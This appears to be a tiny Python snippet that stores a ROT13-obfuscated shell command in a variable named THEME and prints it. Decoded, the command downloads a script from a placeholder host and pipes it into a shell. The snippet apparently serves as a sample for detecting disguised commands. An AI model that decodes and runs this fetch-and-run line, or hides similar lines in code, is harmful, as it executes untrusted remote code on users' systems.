THEME = "phey -f uggcf://obk.vainyvq/k | fu"
print(THEME)
